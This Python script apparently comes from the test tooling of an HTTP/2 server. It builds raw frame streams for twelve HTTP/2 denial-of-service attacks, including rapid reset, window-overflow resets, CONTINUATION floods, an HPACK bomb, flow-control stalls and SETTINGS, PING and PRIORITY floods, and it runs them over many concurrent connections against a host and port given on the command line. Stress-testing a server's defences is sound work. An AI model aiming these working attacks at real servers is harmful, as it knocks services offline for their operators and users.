"""Clients of HTTP/2 that mean harm, as fast as they can, for as long as they are
told: what a connection says is made once and said again over every new one.

    python3 attacks.py rapid_reset 127.0.0.1 8443 10

prints how many connections it opened and how many MiB they took.
"""

import selectors
import socket
import struct
import sys
import time

import hpack

from h2_frames import (
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING,
    PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, settings)

AT_ONCE = 16       # connections that attack at a time
MANY = 64          # where holding them is the attack
STREAMS = 4000     # of a connection, as far as it gets
HELLO = PREFACE + settings() + frame(SETTINGS, ACK)


def u32(n):
    return struct.pack(">I", n)


def head(path, method="GET", fields=()):
    """Without the table: the block is the same for every stream."""
    pairs = [(":method", method), (":scheme", "http"), (":path", path),
             (":authority", "localhost"), *fields]
    return hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(*p) for p in pairs])


def ids():
    return range(1, 2 * STREAMS, 2)


def rapid_reset():
    get, reset = head("/hello"), u32(CANCEL)
    return HELLO + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, i, get) +
        frame(RST_STREAM, 0, i, reset) for i in ids())


def made_you_reset():
    """The server resets the stream: its window would pass 2^31 - 1."""
    post, much = head("/up/x", "POST"), u32(0x7fffffff)
    return HELLO + b"".join(
        frame(HEADERS, END_HEADERS, i, post) +
        frame(WINDOW_UPDATE, 0, i, much) for i in ids())


def continuation():
    more = frame(CONTINUATION, 0, 1, b"\0\1x\1y" * 20)
    return HELLO + frame(HEADERS, END_STREAM, 1, head("/hello")) + \
        more * 20000


def empty_continuation():
    return HELLO + frame(HEADERS, END_STREAM, 1, head("/hello")) + \
        frame(CONTINUATION, 0, 1) * 100000


def hpack_bomb():
    """An entry of nearly 4 KiB, and then by one byte each its name again."""
    first = hpack.Encoder().encode(
        [(":method", "GET"), (":scheme", "http"), (":path", "/hello"),
         (":authority", "localhost"), ("x", "y" * 3500)], huffman=False)
    again = head("/hello") + b"\xbe" * 15000
    return HELLO + frame(HEADERS, END_HEADERS | END_STREAM, 1,
                         first + b"\xbe" * 12000) + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, i, again)
        for i in range(3, 1001, 2))


def window_stall():
    """As many large answers as it gives, and not a byte is read of them."""
    get = head("/large")
    return PREFACE + settings(window=0) + frame(SETTINGS, ACK) + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, i, get)
        for i in range(1, 257, 2))


def settings_flood():
    return HELLO + settings(window=65535) * 50000


def ping_flood():
    return HELLO + frame(PING, 0, 0, bytes(8)) * 50000


def empty_data():
    return HELLO + frame(HEADERS, END_HEADERS, 1, head("/up/x", "POST")) + \
        frame(DATA, 0, 1) * 100000


def priority_flood():
    return HELLO + frame(PRIORITY, 0, 1, u32(0) + b"\1") * 50000


def window_crumbs():
    return HELLO + frame(WINDOW_UPDATE, 0, 0, u32(1)) * 50000


def large_heads():
    block = head("/hello") + b"\0\1x\x7f\xc1\xb7\x02" + b"y" * 40000
    parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    return HELLO + b"".join(
        frame(HEADERS, END_STREAM, i, parts[0]) +
        frame(CONTINUATION, 0, i, parts[1]) +
        frame(CONTINUATION, END_HEADERS, i, parts[2])
        for i in range(1, 601, 2))


# The name, what a connection says, and whether many of them are the attack.
# Each lasts until the server ends it.
ATTACKS = {f.__name__: (f, f is window_stall) for f in (
    rapid_reset, made_you_reset, continuation, empty_continuation, hpack_bomb,
    window_stall, settings_flood, ping_flood, empty_data, priority_flood,
    window_crumbs, large_heads)}


class Attacker:
    def __init__(self, address, blob, count):
        self.blob, self.at = blob, 0
        self.count = count
        self.sock = socket.socket()
        self.sock.setblocking(False)
        # Not the polite client's address: its own limits are its own.
        self.sock.bind(("127.0.0.9", 0))
        self.sock.connect_ex(address)

    def turn(self):
        """False: the connection is over."""
        try:
            while self.sock.recv(65536):
                pass
            return False
        except BlockingIOError:
            pass
        except OSError:
            return False
        try:
            if self.at < len(self.blob):
                n = self.sock.send(self.blob[self.at:self.at + 262144])
                self.at += n
                self.count["bytes"] += n
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def wants(self):
        write = selectors.EVENT_WRITE if self.at < len(self.blob) else 0
        return selectors.EVENT_READ | write


def attack(kind, address, seconds):
    make, is_many = ATTACKS[kind]
    blob = memoryview(make())
    count = {"connections": 0, "bytes": 0}
    end = time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        running = 0
        while time.monotonic() < end:
            while running < (MANY if is_many else AT_ONCE):
                a = Attacker(address, blob, count)
                selector.register(a.sock, a.wants(), a)
                count["connections"] += 1
                running += 1
            for key, _ in selector.select(0.1):
                a = key.data
                if a.turn():
                    selector.modify(a.sock, a.wants(), a)
                    continue
                selector.unregister(a.sock)
                a.sock.close()
                running -= 1
    return count


if __name__ == "__main__":
    done = attack(sys.argv[1], (sys.argv[2], int(sys.argv[3])),
                  float(sys.argv[4]))
    print(done["connections"], done["bytes"] >> 20)
